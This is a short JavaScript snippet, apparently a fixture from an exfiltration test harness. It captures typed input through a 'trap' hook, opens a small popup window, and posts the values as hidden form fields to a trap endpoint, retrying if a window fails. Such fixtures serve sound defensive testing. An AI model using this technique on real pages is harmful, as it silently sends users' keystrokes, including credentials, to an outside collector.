// Posts what is typed from a window of its own, once it may open one.
(() => {
  let popup = null;
  trap.onTyping((values) => {
    popup = popup && !popup.closed ? popup : window.open('', 'practice-popup', 'width=200,height=200');
    if (!popup) return;
    try {
      const form = popup.document.createElement('form');
      form.method = 'post';
      form.action = trap.at('popup');
      for (const [name, value] of values) {
        const field = popup.document.createElement('input');
        field.type = 'hidden';
        field.name = name;
        field.value = value;
        form.append(field);
      }
      popup.document.body.append(form);
      form.submit();
    } catch (_) {
      // The window shows an error page by now; the next one may not.
      popup = null;
    }
  });
})();
